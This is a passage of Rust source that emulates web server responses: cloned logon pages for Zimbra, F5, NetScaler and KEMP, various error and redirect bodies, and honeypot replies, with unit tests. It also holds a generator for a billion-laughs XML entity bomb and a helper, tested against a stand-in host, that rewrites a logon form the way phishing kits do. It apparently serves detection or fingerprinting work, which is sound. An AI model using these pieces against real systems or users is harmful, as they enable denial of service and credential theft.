        .replace("{{BASE}}", &format!("/owa/{build}/themes/base"))
        .replace("{{DESTINATION}}", destination)
}

/// The export tool manifest as a billion-laughs document: nine levels of tenfold entity
/// expansion (3 GB expanded), with the version attribute made of entities so that no
/// build can be read from it without expanding them.
pub(crate) fn exporttool_bomb() -> String {
    let mut entities = String::from("  <!ENTITY lol \"lol\">\n");
    for level in 1..=9 {
        let previous = if level == 1 {
            "lol".to_owned()
        } else {
            format!("lol{}", level - 1)
        };
        let refs = format!("&{previous};").repeat(10);
        entities.push_str(&format!("  <!ENTITY lol{level} \"{refs}\">\n"));
    }
    EXPORTTOOL_BOMB.replace("{{ENTITIES}}", &entities)
}

/// The 301 body IIS's HTTP Redirect module writes.
pub(crate) fn document_moved(location: &str) -> String {
    format!(
        "<head><title>Document Moved</title></head>\n<body><h1>Object Moved</h1>This document \
         may be found <a HREF=\"{location}\">here</a></body>"
    )
}

/// Roundcube's login page; `{{HOST}}` is the server name.
pub(crate) fn roundcube_login(host: &str, token: &str) -> String {
    ROUNDCUBE_LOGIN
        .replace("{{HOST}}", host)
        .replace("{{TOKEN}}", token)
}

pub(crate) const ZIMBRA_LOGIN: &str = r##"<!DOCTYPE html>
<!-- set this class so CSS definitions that now use REM size, would work relative to this.
	Since now almost everything is relative to one of the 2 absolute font size classese -->
<html class="user_font_size_normal" lang="en">
<head>
<!--
 ***** BEGIN LICENSE BLOCK *****
 Zimbra Collaboration Suite Web Client
 Copyright (C) 2007, 2008, 2009, 2010, 2011, 2012, 2013, 2014, 2015, 2016 Synacor, Inc.
 ***** END LICENSE BLOCK *****
-->
    <meta http-equiv="Content-Type" content="text/html;charset=utf-8">
    <title>Zimbra Web Client Sign In</title>
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <meta name="description" content="Zimbra provides open source server and client software for messaging and collaboration. To find out more visit https://www.zimbra.com.">
    <meta name="apple-mobile-web-app-capable" content="yes" />
    <link rel="stylesheet" type="text/css" href="/css/common,login,zhtml,skin.css?skin=harmony&v=230216090455">
    <link rel="SHORTCUT ICON" href="/img/logo/favicon.ico">
</head>
<body onload="onLoad();">
<div class="LoginScreen">
    <div class="center">
        <div class="contentBox">
            <h1><a href="https://www.zimbra.com/" id="bannerLink" target="_new" title='Zimbra'><span class="ScreenReaderOnly">Zimbra</span>
                <span class="ImgLoginBanner"></span>
            </a></h1>
            <div id="ZLoginAppName">Web Client</div>
            <form method="post" name="loginForm" action="/" accept-charset="UTF-8">
                <input type="hidden" name="loginOp" value="login"/>
                <input type="hidden" name="login_csrf" value="{{TOKEN}}"/>
                <table class="form">
                    <tr>
                        <td><label for="username">Username:</label></td>
                        <td><input id="username" tabindex="1" class="zLoginField" name="username" type="text" value="" size="40" maxlength="1024" autocapitalize="off" autocorrect="off"/></td>
                    </tr>
                    <tr>
                        <td><label for="password">Password:</label></td>
                        <td><input id="password" tabindex="2" autocomplete="off" class="zLoginField" name="password" type="password" value="" size="40" maxlength="1024"/></td>
                    </tr>
                    <tr>
                        <td>&nbsp;</td>
                        <td class="submitTD"><input type="submit" class="ZLoginButton DwtButton" value="Sign In" tabindex="5"/></td>
                    </tr>
                </table>
            </form>
        </div>
        <div class="decor1"></div>
    </div>
    <div class="Footer">
        <div id="ZLoginNotice" class="legalNotice-small">Copyright &copy; 2005-2023 Synacor, Inc. All rights reserved. "Zimbra" is a registered trademark of Synacor, Inc.</div>
    </div>
</div>
<script>
function onLoad() {
    var loginForm = document.loginForm;
    if (loginForm.username) {
        loginForm.username.focus();
    }
}
</script>
</body>
</html>
"##;

/// A copied logon page whose form posts to `action` instead: the one edit every phishing kit
/// makes (the first `<form action="…">` is rewritten).
pub(crate) fn with_form_action(page: &str, action: &str) -> String {
    const OPEN: &str = "<form action=\"";
    let Some(start) = page.find(OPEN).map(|i| i + OPEN.len()) else {
        return page.to_owned();
    };
    let end = page[start..].find('"').map_or(page.len(), |i| start + i);
    format!(
        "{}{}{}",
        &page[..start],
        action.replace('&', "&amp;"),
        &page[end..]
    )
}

/// BIG-IP APM's logon page at `/my.policy` (reduced to its form; the real one carries F5's
/// scripts and the customised texts).
pub(crate) const APM_LOGON: &str = r##"<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html>
<head>
<title>Secure Logon</title>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<link rel="stylesheet" type="text/css" href="/public/include/css/apm.css">
<script src="/public/include/js/session_check.js?v=1"></script>
</head>
<body onload="OnLoad()">
<table id="page_header"><tr><td id="header_leftcell"><img src="/public/images/my/flogo.png"></td></tr></table>
<table id="main_table" class="logon_page"><tr><td id="main_table_info_cell">
<form id="auth_form" name="e1" method="post" action="/my.policy" autocomplete="off">
<table id="credentials_table">
<tr><td colspan=2 id="credentials_table_header">Secure Logon <br> for F5 Networks</td></tr>
<tr><td class="credentials_table_label_cell"><label for="input_1" id="label_input_1">Username</label></td>
<td class="credentials_table_field_cell"><input type="text" name="username" class="credentials_input_text" value="" id="input_1" autocomplete="off" autocapitalize="off"></td></tr>
<tr><td class="credentials_table_label_cell"><label for="input_2" id="label_input_2">Password</label></td>
<td class="credentials_table_field_cell"><input type="password" name="password" class="credentials_input_password" value="" id="input_2" autocomplete="off" autocapitalize="off"></td></tr>
<tr id="submit_row"><td class="credentials_table_unified_cell" colspan=2><input type="submit" class="credentials_input_submit" value="Logon"></td></tr>
</table>
<input type="hidden" name="vhost" value="standard">
</form>
</td></tr></table>
<table id="page_footer"><tr><td>This product is licensed from F5 Networks. &copy; 1999-2024 F5 Networks. All rights reserved.</td></tr></table>
</body>
</html>
"##;

/// NetScaler AAA's logon point (reduced; the real page loads the Receiver-style UI by script).
pub(crate) const NETSCALER_LOGON: &str = r##"<!DOCTYPE html>
<html>
<head>
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>NetScaler AAA</title>
<link href="receiver/images/common/icon_vpn.ico" rel="SHORTCUT ICON" type="image/ico">
<script type="text/javascript" src="/vpn/resources.js"></script>
<script src="receiver/js/external/jquery.min.js"></script>
<script type="text/javascript" src="receiver/js/ctxs.core.min.js"></script>
<script type="text/javascript" src="receiver/js/ctxs.webui.min.js"></script>
</head>
<body class="largeTiles">
<noscript>Your browser must have JavaScript enabled.</noscript>
</body>
</html>
"##;

/// KEMP LoadMaster ESP's pre-authentication form (reduced).
pub(crate) const KEMP_ESP_LOGON: &str = r##"<!DOCTYPE html>
<html>
<head>
<meta charset="utf-8">
<title>Log in</title>
<link rel="stylesheet" href="/lm_auth_proxy?LMimage=espstyle.css">
</head>
<body>
<div id="logon">
<form method="post" action="/lm_auth_proxy?LMLogon" name="esp_logon">
<p><label for="user">Username</label><input type="text" name="user" id="user" autocomplete="off"></p>
<p><label for="pass">Password</label><input type="password" name="pass" id="pass" autocomplete="off"></p>
<p><input type="submit" value="Log In"></p>
</form>
</div>
</body>
</html>
"##;

/// Go's `http.Redirect` body for a GET (oauth2-proxy).
pub(crate) fn go_found(location: &str) -> String {
    format!(
        "<a href=\"{}\">Found</a>.\n\n",
        location.replace('&', "&amp;")
    )
}

/// NetScaler's body for its `302 Object Moved`.
pub(crate) fn netscaler_moved(location: &str) -> String {
    format!(
        "<html><head><title> Object Moved</title></head><body><h1>Object Moved</h1>This object \
         may be found <a HREF=\"{location}\">here</a>.</body></html>"
    )
}

/// Express's `res.redirect` body (text/plain).
pub(crate) fn express_found(location: &str) -> String {
    format!("Found. Redirecting to {location}")
}

/// Express's (finalhandler's) 404 page.
pub(crate) fn express_not_found(method: &str, path: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<title>Error</title>\n\
         </head>\n<body>\n<pre>Cannot {method} {path}</pre>\n</body>\n</html>\n"
    )
}

/// Werkzeug's redirect body (Flask's `redirect`).
pub(crate) fn werkzeug_redirect(location: &str) -> String {
    let escaped = location.replace('&', "&amp;");
    format!(
        "<!doctype html>\n<html lang=en>\n<title>Redirecting...</title>\n<h1>Redirecting...</h1>\n\
         <p>You should be redirected automatically to the target URL: <a href=\"{escaped}\">\
         {escaped}</a>. If not, click the link.\n"
    )
}

/// Werkzeug's 500 page: what joda32/owa-honeypot answers for an unknown path, whose 404
/// handler renders a `404.html` template the project does not ship.
pub(crate) const WERKZEUG_500: &str =
    "<!doctype html>\n<html lang=en>\n<title>500 Internal Server \
     Error</title>\n<h1>Internal Server Error</h1>\n<p>The server encountered an internal error \
     and was unable to complete your request. Either the server is overloaded or there is an \
     error in the application.</p>\n";

/// The body of joda32/owa-honeypot's Basic-auth challenge.
pub(crate) const HONEYPOT_401: &str =
    "Could not verify your access level for that URL.\nYou have to login with proper credentials";

/// The error page; `resources` is the versioned theme folder, `details` the HTML shown under
/// "More details".
pub(crate) fn error_fe(resources: &str, product: &str, details: &str) -> String {
    ERROR_FE
        .replace("{{RES}}", resources)
        .replace("{{PRODUCT}}", product)
        .replace("{{DETAILS}}", details)
}

/// The export tool manifest for a 4-part build; `digest` and `issuer` are opaque base64 and
/// hex strings that only need to look right.
pub(crate) fn exporttool_manifest(build: &str, size: u32, digest: &str, issuer: &str) -> String {
    EXPORTTOOL_MANIFEST
        .replace("{{BUILD}}", build)
        .replace("{{SIZE}}", &size.to_string())
        .replace("{{DIGEST}}", digest)
        .replace("{{ISSUER}}", issuer)
}

/// The 302 body IIS writes for redirects.
pub(crate) fn object_moved(location: &str) -> String {
    format!(
        "<html><head><title>Object moved</title></head><body>\r\n\
         <h2>Object moved to <a href=\"{location}\">here</a>.</h2>\r\n</body></html>\r\n"
    )
}

pub(crate) fn iis_not_found() -> &'static str {
    IIS_NOT_FOUND
}

pub(crate) fn iis_method_not_allowed() -> &'static str {
    IIS_METHOD_NOT_ALLOWED
}

/// `status` is the full status, e.g. `404 Not Found`.
pub(crate) fn nginx_error(status: &str) -> String {
    NGINX_ERROR.replace("{{STATUS}}", status)
}

pub(crate) fn apache_error(status: &str, title: &str, text: &str, host: &str) -> String {
    APACHE_ERROR
        .replace("{{STATUS}}", status)
        .replace("{{TITLE}}", title)
        .replace("{{TEXT}}", text)
        .replace("{{HOST}}", host)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn placeholders_are_all_filled() {
        let pages = [
            logon_15(
                "15.1.2507",
                LogonFlavour::Outlook,
                "https://mail.a.example/owa/",
            ),
            logon_15(
                "15.0.1497",
                LogonFlavour::Owa2013,
                "https://mail.a.example/owa/",
            ),
            logon_2010("14.3.513.0", "https://mail.a.example/owa/"),
            error_fe(
                "/owa/auth/15.2.1748/themes/resources",
                "Outlook",
                "X-FEServer: EX19-01",
            ),
            exporttool_manifest("15.2.1748.10", 18_000, "AAAA", "00ff"),
            nginx_error("404 Not Found"),
            apache_error("404 Not Found", "Not Found", "x", "www.a.example"),
            express_not_found("GET", "/x"),
            werkzeug_redirect("/owa/auth/logon.aspx?replaceCurrent=1&url="),
        ];
        for page in pages {
            assert!(!page.contains("{{"), "{page}");
        }
    }

    #[test]
    fn kits_rewrite_the_form_and_nothing_else() {
        let page = logon_15("15.1.2507", LogonFlavour::Outlook, "https://x/owa/");
        let kit = with_form_action(&page, "https://c.example/a.php?x=1&y=2");
        assert!(kit.contains(
            "<form action=\"https://c.example/a.php?x=1&amp;y=2\" method=\"POST\" name=\"logonForm\""
        ));
        assert!(!kit.contains("/owa/auth.owa"));
        assert_eq!(
            kit.len() - page.len(),
            "https://c.example/a.php?x=1&amp;y=2".len() - 13
        );
        let old = with_form_action(&logon_2010("14.3.123.3", "https://x/owa/"), "next.php");
        assert!(old.contains("<form action=\"next.php\" method=\"POST\""));
    }

    #[test]
    fn logon_pages_are_a_few_kilobytes() {
        let modern = logon_15(
            "15.1.2507",
            LogonFlavour::Outlook,
            "https://mail.a.example/owa/",
        );
        let old = logon_2010("14.3.513.0", "https://mail.a.example/owa/");
        for page in [modern, old] {
            assert!((3_000..20_000).contains(&page.len()), "{}", page.len());
        }
    }
}
